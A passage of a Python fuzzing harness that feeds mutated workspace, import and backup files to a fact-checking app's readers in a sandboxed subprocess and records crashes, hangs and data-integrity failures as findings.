        wal = mutate_bytes(wal, rng, ".wal", [wal])
        if rng.random() < 0.3:  # the file first: sqlite3 would read the -wal beside it
            how = "-wal mutated; " + mutate_workspace(main, rng, path)
        else:
            path.write_bytes(main)
            how = "-wal mutated"
        Path(f"{path}-wal").write_bytes(wal)
        return Case(number, reader, "theirs.fcdesk with recent changes", how, path)
    name = rng.choice(sorted(seeds.workspaces))
    how = mutate_workspace(seeds.workspaces[name], rng, path)
    return Case(number, reader, name, how, path)


# -- the runner (a separate process: the fuzzer kills it on a hang) -----------------------


class InlineParser:
    """Stands in for the parser worker: the same function, in this process."""

    def run(
        self,
        function: Callable[..., Any],
        payload: bytes,
        *args: Any,
        progress: Any = None,
        **kwargs: Any,
    ) -> Any:
        return function(payload, *args, progress=lambda _f, _s: None, **kwargs)

    def close(self) -> None:
        pass


class Finding(Exception):
    """A case broke a promise (the workspace damaged or changed); not a traceback.
    `kind` names the promise (findings are grouped by it), `detail` what was seen."""

    def __init__(self, kind: str, detail: str = "") -> None:
        super().__init__(f"{kind}: {detail}" if detail else kind)
        self.kind = kind


def _copy_workspace(source: Path, target: Path) -> None:
    """A workspace file copied with the -wal beside it, if any."""
    shutil.copyfile(source, target)
    wal = Path(f"{source}-wal")
    if wal.exists():
        shutil.copyfile(wal, Path(f"{target}-wal"))


def _file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "missing"


def _records(desk: Any) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table of the open workspace (settings, history and the search
    index's own tables too), each table's rows in a fixed order."""
    tables = [
        name
        for (name,) in desk.repo.db.execute(
            "SELECT name FROM sqlite_schema WHERE type = 'table' AND sql NOT LIKE 'CREATE VIRTUAL%'"
        ).fetchall()
    ]
    return {
        table: sorted(
            map(tuple, desk.repo.db.execute(f'SELECT * FROM "{table}"').fetchall()), key=repr
        )
        for table in tables
    }


MERGED_TABLES = (
    "articles",
    "sentences",
    "reviews",
    "review_versions",
    "sources",
    "sentence_sources",
    "sign_offs",
)


def _dump(desk: Any) -> dict[str, list[tuple[Any, ...]]]:
    """What the user's workspace holds, table by table (history and settings aside)."""
    out = {}
    for table in MERGED_TABLES:
        out[table] = sorted(
            map(tuple, desk.repo.db.execute(f'SELECT * FROM "{table}"').fetchall()), key=repr
        )
    return out


def _read_like_the_window(desk: Any) -> None:
    """What the window reads of an opened workspace: the list, a few articles, history."""
    articles = desk.articles.list_articles()
    for summary in articles[:4]:
        desk.articles.article_text(summary.id)
        desk.articles.article_metadata(summary.id)
        desk.articles.progress(summary.id)
        rows = desk.reviews.sentence_rows(summary.id)
        for row in rows[:20]:
            desk.reviews.review(row.sentence.id)
            desk.sources.links(row.sentence.id)
            desk.sign_offs.state(row.sentence.id)
            desk.merge.versions(row.sentence.id)
            desk.lookup.earlier_verdicts(row.sentence.id)
        desk.history.entries(summary.id)
    desk.history.verify()
    desk.lookup.search("minister")


def _edit_like_the_reviewer(desk: Any) -> None:
    """A few edits in the workspace opened for editing: an import, a tag, a verdict, a
    merge of two sentences, undo and redo, a tag on the first article's first sentence
    (each may be refused in words; numbers the file holds must not make one fail as a
    bug: an id of 2**63 - 1 made every import fail so)."""
    from factcheck_app.domain.models import Tag

    imported = desk.importer.import_text(
        "The minister said 40 schools closed. Officials denied it on Monday."
    )
    first = desk.reviews.sentence_rows(imported.article_id)[0].sentence.id
    desk.reviews.set_tag(first, Tag.CLAIM)
    desk.reviews.set_verdict(first, "false")
    desk.boundaries.merge_with_next(first)
    desk.undo()
    desk.redo()
    articles = desk.articles.list_articles()
    if articles:
        rows = desk.reviews.sentence_rows(articles[0].id)
        if rows:
            desk.reviews.set_tag(rows[0].sentence.id, Tag.FACT)
    desk.lookup.search("minister schools")


def _check_ok(desk: Any, what: str, history: bool = True) -> None:
    """Check Workspace and `verify` pass (`history=False`: all but the history's chain,
    which a copy of a tampered history rightly fails)."""
    verification = desk.history.verify()
    if history and not verification.ok:
        raise Finding(f"{what}: verify fails", verification.summary())
    report = desk.upkeep.check()
    if report.ok or (not history and not verification.ok and _sound_but_history(desk)):
        return
    raise Finding(f"{what}: Check Workspace fails", " | ".join(report.lines))


def _sound_but_history(desk: Any) -> bool:
    """Does the workspace pass every part of Check Workspace but the history's?"""
    from factcheck_app.storage import backups

    structure = backups.check_database(desk.workspace.db.conn)
    return structure.ok and not desk.repo.articles.articles_with_broken_text()


def _history_verifies(path: Path) -> bool | None:
    """Does the history of the (untrusted) file at `path` verify? None: cannot tell."""
    from factcheck_app.domain.history import verify
    from factcheck_app.storage.errors import WorkspaceDatabase
    from factcheck_app.storage.stores.history import HistoryStore

    try:
        conn = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro&immutable=1", uri=True)
        try:
            store = HistoryStore(WorkspaceDatabase(conn, path))
            if store.predates_chain():
                return None
            return verify(store.entries(), store.head()) is None
        finally:
            conn.close()
    except Exception:  # a damaged file: the cleaned copy's history proves nothing either way
        return None


def _verifies_as_read(path: Path, work: Path) -> bool:
    """Does `verify` pass on the file at `path` as a desk reads it, with its -wal (read
    from a scratch copy, so that `path` is left as it is)? False when no desk reads it."""
    from factcheck_app.domain.errors import FactcheckError
    from factcheck_app.services.desk import Desk

    scratch = work / "as-read" / path.name
    scratch.parent.mkdir(exist_ok=True)
    _copy_workspace(path, scratch)
    try:
        desk = Desk.open(scratch, read_only=True, backup=False, search_index="unused")
    except FactcheckError:
        return False
    try:
        return bool(desk.history.verify().ok)
    except Exception:  # a damaged file: proves nothing either way
        return False
    finally:
        desk.close()


@contextlib.contextmanager
def _accepted(what: str) -> Iterator[None]:
    """After the desk accepted a file (imported, merged, cleaned), reading the result back
    must not be refused: a FactcheckError here is a finding, not an OK."""
    from factcheck_app.domain.errors import FactcheckError

    try:
        yield
    except FactcheckError as error:
        raise Finding(f"{what}: the result is refused", str(error)) from None


def run_import(case: Path, work: Path, template: Path) -> str:
    from factcheck_app.services.desk import Desk

    workspace = work / "import.fcdesk"
    shutil.copyfile(template, workspace)
    desk = Desk.open(workspace, backup=False)
    try:
        desk.importer._parser = InlineParser()  # type: ignore[assignment]
        result = desk.importer.import_file(case)
        desk.importer._parser = None
        with _accepted("after the import"):
            desk.articles.article_text(result.article_id)
            desk.reviews.sentence_rows(result.article_id)
            desk.articles.list_articles()
            _check_ok(desk, "after the import")
        return f"imported {result.sentence_count} sentences"
    finally:
        desk.importer._parser = None
        desk.close()


class _Caught(logging.Handler):
    """The tracebacks the command line logs for a bug (it prints only their last line)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.traces: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        if record.exc_info:
            self.traces.append("".join(traceback.format_exception(*record.exc_info)))


def _where(trace: str) -> str:
    """The innermost frame of the desk's code in a traceback's text."""
    frames = re.findall(r'File ".*?factcheck_app[/\\](\S+?)", line (\d+), in (\S+)', trace)
    last = trace.strip().splitlines()[-1] if trace.strip() else "?"
    kind = last.split(":", 1)[0]
    if not frames:
        return kind
    name, line, function = frames[-1]
    return f"{kind} at {Path(name).name}:{line} {function}"


def run_commands(workspace: Path, work: Path) -> str:
    """The reading commands of the command line on a workspace (as a script or the
    reviewer at a terminal would run them): each may refuse in words, none may fail as a
    bug ("unexpected error")."""
    from factcheck_app.cli import run

    article = "1"
    commands = [
        ["list"],
        ["stats", "--json"],
        ["search", "minister"],
        ["history"],
        ["history", "--json"],
        ["verify"],
        ["agreement"],
        *(["export", "--format", key, "--article", article] for key in ARTICLE_TEXT_FORMATS),
        ["export", "--format", "docx", "--article", article, "-o", str(work / "r.docx")],
        ["export", "--format", "summary-html"],
        ["export", "--format", "summary-csv"],
    ]
    caught = _Caught()
    logging.disable(logging.NOTSET)
    logging.getLogger().addHandler(caught)
    failed = []
    try:
        for command in commands:
            err = io.StringIO()
            with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
                run([*command, "-w", str(workspace)])
            if "unexpected error" in err.getvalue():
                trace = caught.traces[-1] if caught.traces else err.getvalue()
                failed.append((command, trace))
    finally:
        logging.getLogger().removeHandler(caught)
        logging.disable(logging.CRITICAL)
    if failed:
        command, trace = failed[0]
        raise Finding(f"`{command[0]}` fails: {_where(trace)}", f"{' '.join(command)}\n{trace}")
    return f"{len(commands)} commands"


def run_open(case: Path, work: Path, template: Path) -> str:
    from factcheck_app.domain.errors import FactcheckError
    from factcheck_app.services.desk import Desk

    said = []
    for read_only in (True, False):
        copy = work / f"open-{read_only}.fcdesk"
        _copy_workspace(case, copy)
        try:
            desk = Desk.open(copy, read_only=read_only, backup=False)
        except FactcheckError as error:
            said.append(f"refused: {error}")
            continue
        try:
            _read_like_the_window(desk)
            desk.upkeep.check()
            if not read_only and not desk.read_only:
                _edit_like_the_reviewer(desk)
            said.append("opened")
        except FactcheckError as error:
            said.append(f"refused: {error}")
        finally:
            desk.close()
    copy = work / "commands.fcdesk"
    _copy_workspace(case, copy)
    said.append(run_commands(copy, work))
    return "; ".join(said)


def run_merge(case: Path, work: Path, template: Path) -> str:
    from factcheck_app.domain.errors import FactcheckError
    from factcheck_app.services.desk import Desk

    theirs = work / "theirs.fcdesk"
    _copy_workspace(case, theirs)
    user = work / "user.fcdesk"
    shutil.copyfile(template, user)
    their_bytes = _file_hash(theirs)
    desk = Desk.open(user, backup=False)
    try:
        records = _records(desk)
        held = _dump(desk)
        try:
            result = desk.merge.merge(theirs)
        except FactcheckError:
            # Every record as it was ("nothing here was changed"), its settings too. Not
            # byte for byte: a merge notes, committed, that it runs (for a crash in it to
            # be told at the next open) and removes the note when refused.
            if _records(desk) != records:
                raise Finding("a refused merge changed the user's workspace") from None
            if _file_hash(theirs) != their_bytes:
                raise Finding("a refused merge changed their file") from None
            raise
        if _file_hash(theirs) != their_bytes:
            raise Finding("a merge changed their file")
        with _accepted("after the merge"):
            _check_ok(desk, "after the merge")
            _read_like_the_window(desk)
            if result.changed:
                desk.undo()
                _check_ok(desk, "after undoing the merge")
                if _dump(desk) != held:
                    after = _dump(desk)
                    differ = [t for t in MERGED_TABLES if after[t] != held[t]]
                    raise Finding(f"undoing the merge left the user's {', '.join(differ)} changed")
                desk.redo()
                _check_ok(desk, "after redoing the merge")
                _read_like_the_window(desk)
        return result.summary()
    finally:
        desk.close()


def run_restore(case: Path, work: Path, template: Path) -> str:
    from factcheck_app.domain.errors import FactcheckError
    from factcheck_app.services import workspace_files

    user = work / "restore" / "user.fcdesk"
    user.parent.mkdir()
    shutil.copyfile(template, user)
    backup = work / "backup.fcdesk"
    _copy_workspace(case, backup)
    before = _file_hash(user)
    try:
        workspace_files.backups_of(user)
        kept = workspace_files.restore_backup(user, backup)
    except FactcheckError:
        if _file_hash(user) != before:
            raise Finding("a refused restore changed the user's workspace") from None
        raise
    if kept is None or _file_hash(kept) != before:
        raise Finding("a restore did not keep the user's workspace as it was")
    return "restored; " + run_open(user, work, template)


def run_clean(case: Path, work: Path, template: Path) -> str:
    from factcheck_app.services import workspace_files
    from factcheck_app.services.desk import Desk

    source = work / "theirs.fcdesk"
    _copy_workspace(case, source)
    target = work / "cleaned.fcdesk"
    # Judged as the cleaning reads it, with its -wal: a mutated -wal may hold reviews
    # unlike their history, which the file alone (all `_history_verifies` reads) does not.
    theirs_verifies = _history_verifies(source) is True and _verifies_as_read(source, work)
    result = workspace_files.open_cleaned_copy(source, target)
    with _accepted("the cleaned copy"):
        desk = Desk.open(target, backup=False)
    try:
        # The copy keeps a tampered history as it found it (evidence), and a damaged file
        # may lose some of it: that alone fails only when the original's verified.
        with _accepted("the cleaned copy"):
            _check_ok(desk, "the cleaned copy", history=theirs_verifies)
            _read_like_the_window(desk)
    finally:
        desk.close()
    return result.summary()


RUNNERS: dict[str, Callable[[Path, Path, Path], str]] = {
    "import": run_import,
    "open": run_open,
    "merge": run_merge,
    "restore": run_restore,
    "clean": run_clean,
}


def _signature(error: BaseException) -> str:
    """Where an exception came from: its type and the innermost frame of the desk's code."""
    frames = traceback.extract_tb(error.__traceback__)
    ours = [f for f in frames if "factcheck_app" in f.filename]
    frame = ours[-1] if ours else (frames[-1] if frames else None)
    where = f"{Path(frame.filename).name}:{frame.lineno} {frame.name}" if frame else "?"
    return f"{type(error).__name__} at {where}"


def run_one(reader: str, case: Path, templates: dict[str, Path]) -> dict[str, Any]:
    from factcheck_app.domain.errors import FactcheckError

    work = Path(tempfile.mkdtemp(prefix="fuzz-case-"))
    started = time.monotonic()
    try:
        template = templates["user"] if reader in ("merge", "restore") else templates["empty"]
        detail = RUNNERS[reader](case, work, template)
        status, kind, trace = "ok", "", ""
    except FactcheckError as error:
        status, kind, detail, trace = "refused", "", str(error), ""
    except Finding as error:
        status, kind, detail = "finding", f"Finding: {error.kind}", str(error)
        trace = traceback.format_exc()
    except MemoryError as error:
        status, kind, detail = "finding", "MemoryError", "out of the runner's memory cap"
        trace = "".join(traceback.format_exception(error))
    except Exception as error:  # the point of the fuzzer: anything else is a finding
        status, kind, detail = "finding", _signature(error), f"{type(error).__name__}: {error}"
        trace = traceback.format_exc()
    finally:
        shutil.rmtree(work, ignore_errors=True)
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    return {
        "status": status,
        "kind": kind,
        "detail": detail[:500],
        "trace": trace[-6000:],
        "seconds": round(time.monotonic() - started, 3),
        "rss_mb": rss,
    }


def serve(memory_mb: int) -> int:
    """The runner: one JSON request per line on stdin, one JSON answer per line out."""
    with contextlib.suppress(ValueError, OSError):
        limit = memory_mb * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    answers = os.fdopen(os.dup(sys.stdout.fileno()), "w")
    sys.stdout = sys.stderr  # nothing the desk prints can garble the answers
    logging.disable(logging.CRITICAL)
    templates = {k: Path(v) for k, v in json.loads(sys.stdin.readline()).items()}
    for line in sys.stdin:
        request = json.loads(line)
        answer = run_one(request["reader"], Path(request["path"]), templates)
        answers.write(json.dumps(answer) + "\n")
        answers.flush()
    return 0


class Runner:
    """The runner process, restarted after a hang or a death."""

    def __init__(self, memory_mb: int, templates: dict[str, Path], env: dict[str, str]) -> None:
        self.memory_mb = memory_mb
        self.templates = templates
        self.env = env
        self.process: subprocess.Popen[bytes] | None = None
        self.selector = selectors.DefaultSelector()

    def _start(self) -> subprocess.Popen[bytes]:
        if self.process is not None and self.process.poll() is None:
            return self.process
        self.process = subprocess.Popen(
            [sys.executable, __file__, "--serve", "--memory-mb", str(self.memory_mb)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            env=self.env,
            cwd=REPO,
            start_new_session=True,  # a kill reaches anything it started too
        )
        assert self.process.stdin is not None and self.process.stdout is not None
        os.set_blocking(self.process.stdout.fileno(), False)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.process.stdout, selectors.EVENT_READ)
        self._buffer = b""
        templates = {k: str(v) for k, v in self.templates.items()}
        self.process.stdin.write((json.dumps(templates) + "\n").encode())
        self.process.stdin.flush()
        return self.process

    def run(self, reader: str, path: Path, budget: float) -> dict[str, Any]:
        process = self._start()
        assert process.stdin is not None and process.stdout is not None
        started = time.monotonic()
        try:
            process.stdin.write((json.dumps({"reader": reader, "path": str(path)}) + "\n").encode())
            process.stdin.flush()
        except OSError:
            return self._died(started)
        while True:
            left = budget - (time.monotonic() - started)
            if left <= 0:
                self.stop()
                return {
                    "status": "finding",
                    "kind": f"Hang: still running after {budget:.0f} s",
                    "detail": "killed",
                    "trace": "",
                    "seconds": round(time.monotonic() - started, 3),
                    "rss_mb": 0,
                }
            if not self.selector.select(timeout=min(left, 0.5)):
                if process.poll() is not None:
                    return self._died(started)
                continue
            chunk = process.stdout.read()
            if not chunk:
                if process.poll() is not None or chunk == b"":
                    return self._died(started)
                continue
            self._buffer += chunk
            if b"\n" in self._buffer:
                line, self._buffer = self._buffer.split(b"\n", 1)
                answer: dict[str, Any] = json.loads(line)
                return answer

    def _died(self, started: float) -> dict[str, Any]:
        code = self.process.wait() if self.process is not None else None
        self.stop()
        return {
            "status": "finding",
            "kind": f"Runner died (status {code})",
            "detail": "the runner process ended in the middle of a case",
            "trace": "",
            "seconds": round(time.monotonic() - started, 3),
            "rss_mb": 0,
        }

    def stop(self) -> None:
        process, self.process = self.process, None
        if process is None:
            return
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(process.pid, signal.SIGKILL)  # our own runner's group only
        process.wait()
        for stream in (process.stdin, process.stdout):
            if stream is not None:
                with contextlib.suppress(OSError):
                    stream.close()


# -- the driver ----------------------------------------------------------------------------


def minimise(runner: Runner, case: Case, kind: str, budget: float) -> bytes:
    """The mutant cut down, a run of bytes at a time, while it still gives the finding
    `kind` (delta debugging; each trial through the runner, as a case is)."""
    data = case.path.read_bytes()
    trial_path = case.path.with_name("trial" + case.path.suffix)

    def still_fails(candidate: bytes) -> bool:
        trial_path.write_bytes(candidate)
        answer = runner.run(case.reader, trial_path, budget)
        return answer["status"] == "finding" and answer["kind"] == kind

    chunk = max(1, len(data) // 2)
    while True:
        at, cut = 0, False
        while at < len(data):
            candidate = data[:at] + data[at + chunk :]
            if candidate and still_fails(candidate):
                data, cut = candidate, True
            else:
                at += chunk
        if chunk == 1 and not cut:
            return data
        if not cut:
            chunk = max(1, chunk // 2)


@contextlib.contextmanager
def private_home() -> Iterator[dict[str, str]]:
    """An environment whose data, settings and log folders are a temporary folder's."""
    home = Path(tempfile.mkdtemp(prefix="fuzz-home-"))
    env = dict(os.environ)
    env.update(
        HOME=str(home),
        XDG_DATA_HOME=str(home / "data"),
        XDG_CONFIG_HOME=str(home / "config"),
        XDG_STATE_HOME=str(home / "state"),
        XDG_CACHE_HOME=str(home / "cache"),
        FACTCHECK_DATA_DIR=str(home / "data"),
        FACTCHECK_LOG_DIR=str(home / "log"),
        FACTCHECK_REVIEWER="Fuzzer",
        PYTHONPATH=str(REPO) + os.pathsep + env.get("PYTHONPATH", ""),
    )
    saved = dict(os.environ)
    os.environ.update(env)
    try:
        yield env
    finally:
        os.environ.clear()
        os.environ.update(saved)
        shutil.rmtree(home, ignore_errors=True)


def main(argv: list[str] | None = None) -> int:
    warnings.filterwarnings("ignore")  # zipfile's "Duplicate name": made on purpose
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--minutes", type=float, default=5.0, help="time budget (default 5)")
    parser.add_argument("--cases", type=int, default=0, help="stop after this many cases")
    parser.add_argument("--first", type=int, default=0, help="number of the first case")
    parser.add_argument("--readers", default=",".join(READERS), help="comma-separated")
    parser.add_argument("--case-seconds", type=float, default=20.0, help="budget of one case")
    parser.add_argument("--memory-mb", type=int, default=1536, help="the runner's memory cap")
    parser.add_argument("--out", type=Path, help="folder for findings")
    parser.add_argument("--replay", type=int, help="run this one case and print its outcome")
    parser.add_argument("--keep", type=Path, help="with --replay: write the mutant here")
    parser.add_argument(
        "--minimise",
        action="store_true",
        help="with --replay: cut the mutant down to the fewest bytes giving the same finding",
    )
    parser.add_argument(
        "--sweep",
        action="store_true",
        help="instead of random cases: every column of the built workspaces, one at a time, "
        "set to bytes, text, a fraction, a negative and a huge number, through the workspace "
        "readers",
    )
    parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.serve:
        return serve(args.memory_mb)
    readers = tuple(r for r in args.readers.split(",") if r)
    unknown = set(readers) - set(READERS)
    if unknown:
        parser.error(f"unknown readers: {', '.join(sorted(unknown))} (known: {', '.join(READERS)})")
    with private_home() as env:
        if args.sweep:
            return _sweep(args, tuple(r for r in readers if r != "import"), env)
        return _fuzz(args, readers, env)


# into a TEXT column (a number is stored as text; the last, past SQLite's integers)
SWEEP_TEXT = (b"\xffbytes", 12, -1.5, "99999999999999999999")
SWEEP_NUMBER = (b"\xffbytes", "text", 1.5, -7, 2**62, 2**63 - 1)  # into an INTEGER one


def sweep_cases(workspace: Path, folder: Path) -> Iterator[tuple[str, Path]]:
    """Copies of `workspace`, each with one column of every row set to one hostile value
    (written past the CHECK constraints, as a plain sqlite3 session could)."""
    conn = sqlite3.connect(str(workspace))
    try:
        tables = [t for t in _tables(conn) if "index" not in t and not t.startswith("_")]
        columns = {t: conn.execute(f'PRAGMA table_info("{t}")').fetchall() for t in tables}
    finally:
        conn.close()
    for table in tables:
        for info in columns[table]:
            column, declared = info[1], str(info[2]).upper()
            for value in SWEEP_NUMBER if "INT" in declared else SWEEP_TEXT:
                case = folder / "sweep.fcdesk"
                shutil.copyfile(workspace, case)
                edit = sqlite3.connect(str(case))
                try:
                    edit.execute("PRAGMA ignore_check_constraints = ON")
                    with edit:
                        edit.execute(f'UPDATE "{table}" SET "{column}" = ?', (value,))
                except sqlite3.Error:
                    continue  # NOT NULL, UNIQUE: SQLite itself keeps such a value out
                finally:
                    edit.close()
                yield f"{workspace.name}: {table}.{column} = {_short(value)}", case


def _sweep(args: argparse.Namespace, readers: tuple[str, ...], env: dict[str, str]) -> int:
    scratch = Path(tempfile.mkdtemp(prefix="fuzz-readers-"))
    built = build_workspaces(scratch)
    runner = Runner(args.memory_mb, built, env)
    started, cases, found = time.monotonic(), 0, 0
    try:
        for name in ("theirs", "user"):
            for what, case in sweep_cases(built[name], scratch):
                for reader in readers:
                    answer = runner.run(reader, case, args.case_seconds)
                    cases += 1
                    if answer["status"] == "finding":
                        found += 1
                        print(f"FINDING {reader}: {answer['kind']} [{what}]", flush=True)
    finally:
        runner.stop()
        shutil.rmtree(scratch, ignore_errors=True)
    elapsed = time.monotonic() - started
    print(f"\nsweep: {cases} cases in {elapsed / 60:.1f} min, {found} findings")
    return 1 if found else 0


def _fuzz(args: argparse.Namespace, readers: tuple[str, ...], env: dict[str, str]) -> int:
    scratch = Path(tempfile.mkdtemp(prefix="fuzz-readers-"))
    out = args.out or Path(tempfile.mkdtemp(prefix="fuzz-findings-"))
    out.mkdir(parents=True, exist_ok=True)
    built = build_workspaces(scratch)
    seeds = Seeds(
        {**repo_import_seeds(), **built_import_seeds()},
        workspace_seeds(built),
        built,
        with_recent_changes(built["theirs"], scratch),
    )
    runner = Runner(args.memory_mb, built, env)
    cases_folder = scratch / "cases"
    cases_folder.mkdir()
    deadline = time.monotonic() + args.minutes * 60
    counts: dict[str, dict[str, int]] = {r: {"ok": 0, "refused": 0, "finding": 0} for r in readers}
    signatures: dict[str, list[int]] = {}
    slowest = (0.0, "")
    most_memory = 0
    number = args.first if args.replay is None else args.replay
    started = time.monotonic()
    next_report = started + 60
    try:
        while True:
            if args.replay is None:
                done = sum(sum(c.values()) for c in counts.values())
                if time.monotonic() >= deadline or (args.cases and done >= args.cases):
                    break
                if time.monotonic() >= next_report:
                    next_report += 60
                    found = sum(len(n) for n in signatures.values())
                    print(
                        f"{(time.monotonic() - started) / 60:.0f} min: {done} cases, "
                        f"{found} findings of {len(signatures)} kinds",
                        flush=True,
                    )
            try:
                case = make_case(seeds, args.seed, number, readers, cases_folder)
            except Exception as error:  # a mutator's own bug: said, and the next case
                if args.replay is not None:
                    raise
                print(f"case {number}: the mutation failed ({error!r}); skipped", flush=True)
                number += 1
                continue
            if args.keep is not None:
                args.keep.parent.mkdir(parents=True, exist_ok=True)
                keep = args.keep.with_suffix(case.path.suffix)
                _copy_workspace(case.path, keep)
                print(f"mutant written to {keep}")
            answer = runner.run(case.reader, case.path, args.case_seconds)
            counts[case.reader][answer["status"]] += 1
            most_memory = max(most_memory, answer["rss_mb"])
            if answer["seconds"] > slowest[0]:
                slowest = (answer["seconds"], f"case {number} ({case.reader}, {case.seed_name})")
            if args.replay is not None and args.minimise and answer["status"] == "finding":
                smallest = minimise(runner, case, answer["kind"], args.case_seconds)
                keep = (args.keep or Path(f"minimal-case{number}")).with_suffix(case.path.suffix)
                keep.write_bytes(smallest)
                print(f"minimised to {len(smallest)} bytes: {keep}")
            if args.replay is not None:
                print(f"case {number}: {case.reader} of a mutant of {case.seed_name} ({case.how})")
                outcome = f"{answer['status']} in {answer['seconds']} s"
                print(f"{outcome}: {answer['kind']} {answer['detail']}")
                if answer["trace"]:
                    print(answer["trace"])
                return 1 if answer["status"] == "finding" else 0
            if answer["status"] == "finding":
                key = f"{case.reader}: {answer['kind']}"
                seen = signatures.setdefault(key, [])
                seen.append(number)
                if len(seen) <= 3:  # a few examples of each
                    stem = out / f"{case.reader}-case{number}"
                    shutil.copyfile(case.path, stem.with_suffix(case.path.suffix))
                    stem.with_suffix(".txt").write_text(
                        f"seed {args.seed} case {number}: {case.reader} of a mutant of "
                        f"{case.seed_name} ({case.how})\n{answer['kind']}\n{answer['detail']}\n\n"
                        f"{answer['trace']}\n"
                    )
                if len(seen) == 1:
                    print(f"FINDING case {number} {key} [{case.seed_name}: {case.how}]", flush=True)
            case.path.unlink(missing_ok=True)
            Path(f"{case.path}-wal").unlink(missing_ok=True)
            number += 1
    finally:
        runner.stop()
        shutil.rmtree(scratch, ignore_errors=True)
    elapsed = time.monotonic() - started
    total = sum(sum(c.values()) for c in counts.values())
    print(
        f"\n{total} cases in {elapsed / 60:.1f} min (seed {args.seed}, cases "
        f"{args.first}–{number - 1}); findings in {out}"
    )
    for reader, c in counts.items():
        print(
            f"  {reader:8} {sum(c.values()):6} cases: {c['ok']} ok, {c['refused']} refused "
            f"in words, {c['finding']} findings"
        )
    print(f"  slowest case {slowest[0]:.2f} s: {slowest[1]}; runner peak memory {most_memory} MB")
    for key, numbers in sorted(signatures.items()):
        shown = ", ".join(str(n) for n in numbers[:5])
        print(f"  {len(numbers):5}× {key} (cases {shown}{'…' if len(numbers) > 5 else ''})")
    if not signatures:
        print("  no findings")
    return 1 if signatures else 0


if __name__ == "__main__":
    sys.exit(main())
